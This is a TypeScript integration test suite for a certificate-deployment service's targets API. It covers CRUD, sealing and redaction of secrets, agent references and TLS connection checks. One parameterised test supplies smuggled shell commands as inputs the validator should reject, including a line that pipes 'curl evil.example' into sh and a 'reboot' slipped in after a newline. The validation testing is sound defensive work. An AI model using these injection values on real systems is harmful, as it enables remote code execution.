import { randomBytes } from 'node:crypto';
import { createServer, Server } from 'node:net';
import { TargetDto, TargetTestResult } from '@certlane/contracts';
import { SecretBox } from '@certlane/platform';
import { httpsRequest, HttpsResult, recordSecrets, startTestSystem, TestSystem } from '@certlane/testing';
import { Client } from 'pg';

const unique = (prefix: string) => `${prefix}-${randomBytes(4).toString('hex')}`;
const REDACTED = '********';

/**
 * Targets through the real gateway and deployment-dispatch processes (spec 2.12, 4.5; ADR 0026):
 * CRUD, config sealed at rest and redacted in responses, commands with shell metacharacters
 * refused, agent references, and the connection test.
 */
describe('targets through gateway -> NATS -> deployment-dispatch', () => {
  let system: TestSystem;
  let db: Client;
  let agentId: string;
  let retiredAgentId: string;
  let closedPort: number;
  const keystorePassword = `jks-${randomBytes(12).toString('hex')}`;

  const api = (method: string, path: string, body?: unknown): Promise<HttpsResult> =>
    httpsRequest(`${system.services['api-gateway'].url}${path}`, {
      method,
      ca: system.ca,
      headers: {
        authorization: `Bearer ${system.env.SERVICE_AUTH_SECRET}`,
        ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });

  const openSealed = async (id: string) => {
    const { rows } = await db.query<{ config_sealed: string; config_public: Record<string, unknown> }>(
      'SELECT config_sealed, config_public FROM deployment_dispatch.targets WHERE id = $1',
      [id],
    );
    const box = new SecretBox(
      system.env.SERVICE_CONFIG_ENCRYPTION_KEY as string,
      'deployment-dispatch target config v1',
    );
    return { ...rows[0], opened: JSON.parse(box.open(rows[0].config_sealed, id)) as Record<string, unknown> };
  };

  async function registerAgent(): Promise<string> {
    const id = unique('tgt-agent');
    const response = await api('POST', '/api/v1/agents', { id, name: id, hostname: `${id}.example.com` });
    expect(response.status).toBe(201);
    return id;
  }

  const keystore = (overrides: Record<string, unknown> = {}) => ({
    name: unique('App keystore'),
    type: 'java_keystore',
    agent_id: agentId,
    config: {
      store_path: '/opt/app/keystore.p12',
      store_password: keystorePassword,
      alias: 'app',
      store_type: 'PKCS12',
      reload_command: 'systemctl restart app',
    },
    ...overrides,
  });

  beforeAll(async () => {
    system = await startTestSystem('targets', ['auth', 'issuance', 'deployment-dispatch', 'api-gateway']);
    db = new Client({ connectionString: system.database.url });
    await db.connect();
    recordSecrets('targets config', [keystorePassword]);
    agentId = await registerAgent();
    retiredAgentId = await registerAgent();
    expect((await api('DELETE', `/api/v1/agents/${retiredAgentId}`)).status).toBe(200);
    // A port nothing listens on: bind, read, close.
    const server: Server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    closedPort = (server.address() as { port: number }).port;
    await new Promise((resolve) => server.close(resolve));
  }, 90_000);

  afterAll(async () => {
    await db?.end();
    await system?.stop();
  });

  describe('create and read', () => {
    it('answers 201 with secret-bearing values redacted and stores the config sealed', async () => {
      const response = await api('POST', '/api/v1/targets', keystore({ endpoint: 'app.example.com:8443' }));
      expect(`${response.status} ${response.text}`).toMatch(/^201 /);
      const target = response.json() as TargetDto;
      expect(target).toMatchObject({
        id: expect.stringMatching(/^tgt-[0-9a-f]{16}$/),
        type: 'java_keystore',
        agent_id: agentId,
        endpoint: 'app.example.com:8443',
        retired_at: null,
        config: {
          store_path: '/opt/app/keystore.p12',
          store_password: REDACTED,
          alias: 'app',
          store_type: 'PKCS12',
          reload_command: 'systemctl restart app',
        },
      });
      expect(response.text).not.toContain(keystorePassword);
      expect(response.text).not.toContain('config_sealed');
      const stored = await openSealed(target.id);
      expect(stored.config_sealed).toMatch(/^v1\./);
      expect(stored.config_sealed).not.toContain(keystorePassword);
      expect(JSON.stringify(stored.config_public)).not.toContain(keystorePassword);
      expect(stored.opened).toMatchObject({
        store_password: keystorePassword,
        store_path: '/opt/app/keystore.p12',
      });

      const read = await api('GET', `/api/v1/targets/${target.id}`);
      expect(read.status).toBe(200);
      expect(read.json()).toEqual(target);
      expect(read.text).not.toContain(keystorePassword);
    });

    it('takes a caller-chosen id and refuses it twice with 409', async () => {
      const id = unique('tgt-fixed');
      expect((await api('POST', '/api/v1/targets', keystore({ id }))).status).toBe(201);
      const again = await api('POST', '/api/v1/targets', keystore({ id }));
      expect(again.status).toBe(409);
      expect(again.json()).toMatchObject({ code: 'target_exists' });
    });

    it.each([
      ['reload_command', 'systemctl restart app; curl evil.example | sh'],
      ['validate_command', 'keytool -list `id`'],
      ['restart_command', 'systemctl restart $(whoami)'],
      ['reload_command', 'systemctl restart app\nreboot'],
      ['reload_command', 'nginx -s reload && echo done'],
    ])('refuses %s with shell metacharacters (400), naming the field', async (field, command) => {
      const body = keystore();
      const response = await api('POST', '/api/v1/targets', {
        ...body,
        config: { ...body.config, [field]: command },
      });
      expect(response.status).toBe(400);
      expect(response.json()).toMatchObject({
        code: 'target_config_invalid',
        message: `config.${field} must not contain shell metacharacters`,
        details: { fields: [expect.objectContaining({ field })] },
      });
    });

    it('refuses configs that do not fit the kind (400)', async () => {
      const response = await api('POST', '/api/v1/targets', {
        name: 'web',
        type: 'nginx',
        agent_id: agentId,
        config: { cert_path: 'relative.pem', surprise: true },
      });
      expect(response.status).toBe(400);
      expect(response.json()).toMatchObject({ code: 'target_config_invalid' });
      expect(
        (response.json() as { details: { fields: { field: string }[] } }).details.fields
          .map((f) => f.field)
          .sort(),
      ).toEqual(['cert_path', 'key_path', 'surprise']);
      expect((await api('POST', '/api/v1/targets', { name: 'x', type: 'tomcat' })).status).toBe(400);
      expect((await api('POST', '/api/v1/targets', { ...keystore(), endpoint: 'no-port' })).status).toBe(400);
    });

    it('needs an agent for agent-run kinds, and refuses unknown and retired agents (400)', async () => {
      const missing = await api('POST', '/api/v1/targets', keystore({ agent_id: undefined }));
      expect(missing.status).toBe(400);
      expect(missing.json()).toMatchObject({
        code: 'validation_failed',
        details: { fields: [{ field: 'agent_id' }] },
      });
      for (const agent of [unique('ghost'), retiredAgentId]) {
        const response = await api('POST', '/api/v1/targets', keystore({ agent_id: agent }));
        expect(response.status).toBe(400);
        expect(response.json()).toMatchObject({ code: 'reference_invalid', details: { field: 'agent_id' } });
      }
      const agentless = await api('POST', '/api/v1/targets', {
        name: 'acm',
        type: 'aws_acm',
        config: { region: 'eu-west-1' },
      });
      expect(agentless.status).toBe(201);
      expect(agentless.json()).toMatchObject({ agent_id: null });
    });

    it('answers 404 for an unknown id', async () => {
      const response = await api('GET', `/api/v1/targets/${unique('ghost')}`);
      expect(response.status).toBe(404);
      expect(response.json()).toMatchObject({ code: 'target_not_found' });
    });
  });

  describe('list', () => {
    it('paginates and filters by agent_id and type', async () => {
      const agent = await registerAgent();
      for (let i = 0; i < 3; i += 1)
        expect((await api('POST', '/api/v1/targets', keystore({ agent_id: agent }))).status).toBe(201);
      const nginx = await api('POST', '/api/v1/targets', {
        name: 'web',
        type: 'nginx',
        agent_id: agent,
        config: { cert_path: '/etc/nginx/a.crt', key_path: '/etc/nginx/a.key' },
      });
      expect(nginx.status).toBe(201);
      const all = (await api('GET', `/api/v1/targets?agent_id=${agent}&per_page=2`)).json() as {
        data: TargetDto[];
        total: number;
        page: number;
        per_page: number;
      };
      expect(all).toMatchObject({ total: 4, page: 1, per_page: 2 });
      expect(all.data).toHaveLength(2);
      const kinds = (await api('GET', `/api/v1/targets?agent_id=${agent}&type=nginx`)).json() as {
        data: TargetDto[];
      };
      expect(kinds.data.map((t) => t.type)).toEqual(['nginx']);
      expect((await api('GET', '/api/v1/targets?type=tomcat')).status).toBe(400);
      const text = (await api('GET', '/api/v1/targets?per_page=500')).text;
      expect(text).not.toContain(keystorePassword);
      expect(text).not.toContain('v1.');
    });
  });

  describe('update and delete', () => {
    it('keeps a secret sent back redacted, takes other changes, and refuses a type change', async () => {
      const created = (await api('POST', '/api/v1/targets', keystore())).json() as TargetDto;
      const response = await api('PUT', `/api/v1/targets/${created.id}`, {
        name: 'renamed',
        config: { ...created.config, alias: 'app2' },
        endpoint: '127.0.0.1:9443',
      });
      expect(`${response.status} ${response.text}`).toMatch(/^200 /);
      expect(response.json()).toMatchObject({
        name: 'renamed',
        endpoint: '127.0.0.1:9443',
        config: { alias: 'app2', store_password: REDACTED },
      });
      expect((await openSealed(created.id)).opened).toMatchObject({
        alias: 'app2',
        store_password: keystorePassword,
        store_path: '/opt/app/keystore.p12',
      });
      const typeChange = await api('PUT', `/api/v1/targets/${created.id}`, { type: 'nginx' });
      expect(typeChange.status).toBe(400);
      expect(typeChange.json()).toMatchObject({ code: 'target_config_invalid' });
      const badCommand = await api('PUT', `/api/v1/targets/${created.id}`, {
        config: { ...created.config, validate_command: 'keytool | tee /tmp/x' },
      });
      expect(badCommand.status).toBe(400);
      expect((await api('PUT', `/api/v1/targets/${unique('ghost')}`, { name: 'x' })).status).toBe(404);
    });

    it('refuses a redacted value with nothing stored behind it', async () => {
      const created = (
        await api('POST', '/api/v1/targets', {
          name: 'acm',
          type: 'aws_acm',
          config: { region: 'eu-west-1' },
        })
      ).json() as TargetDto;
      const response = await api('PUT', `/api/v1/targets/${created.id}`, {
        config: { region: 'eu-west-1', secret_access_key: REDACTED },
      });
      expect(response.status).toBe(400);
      expect(response.json()).toMatchObject({
        code: 'target_config_invalid',
        details: { fields: [expect.objectContaining({ field: 'secret_access_key' })] },
      });
    });

    it('deletes with 204, then answers 404', async () => {
      const created = (await api('POST', '/api/v1/targets', keystore())).json() as TargetDto;
      const deleted = await api('DELETE', `/api/v1/targets/${created.id}`);
      expect(deleted.status).toBe(204);
      expect(deleted.text).toBe('');
      expect((await api('GET', `/api/v1/targets/${created.id}`)).status).toBe(404);
      expect((await api('DELETE', `/api/v1/targets/${created.id}`)).status).toBe(404);
    });
  });

  describe('connection test', () => {
    it('passes for an endpoint serving TLS, naming the leaf it served', async () => {
      const port = new URL(system.services['api-gateway'].url).port;
      const created = (
        await api('POST', '/api/v1/targets', keystore({ endpoint: `127.0.0.1:${port}` }))
      ).json() as TargetDto;
      const response = await api('POST', `/api/v1/targets/${created.id}/test`);
      expect(response.status).toBe(200);
      const result = response.json() as TargetTestResult;
      expect(result).toMatchObject({ target_id: created.id, status: 'ok', tested_at: expect.any(String) });
      expect(result.checks.map((check) => [check.name, check.ok])).toEqual([
        ['config', true],
        ['agent', true],
        ['reachability', true],
        ['tls', true],
      ]);
      expect(result.checks[3].message).toMatch(/leaf SHA-256 fingerprint [0-9a-f]{64}/);
      expect(result.checks[1].message).toBe(`agent ${agentId} is Offline`);
    });

    it('fails, with 200, for an endpoint nothing listens on', async () => {
      const created = (
        await api('POST', '/api/v1/targets', keystore({ endpoint: `127.0.0.1:${closedPort}` }))
      ).json() as TargetDto;
      const result = (await api('POST', `/api/v1/targets/${created.id}/test`)).json() as TargetTestResult;
      expect(result.status).toBe('failed');
      expect(result.checks.find((check) => check.name === 'reachability')).toEqual({
        name: 'reachability',
        ok: false,
        message: 'TCP connect failed (ECONNREFUSED)',
      });
    });

    it('checks only config and agent when the target has no endpoint', async () => {
      const created = (await api('POST', '/api/v1/targets', keystore())).json() as TargetDto;
      const result = (await api('POST', `/api/v1/targets/${created.id}/test`)).json() as TargetTestResult;
      expect(result.status).toBe('ok');
      expect(result.checks.find((check) => check.name === 'reachability')?.message).toBe(
        'skipped: the target has no endpoint',
      );
      expect((await api('POST', `/api/v1/targets/${unique('ghost')}/test`)).status).toBe(404);
    });
  });
});
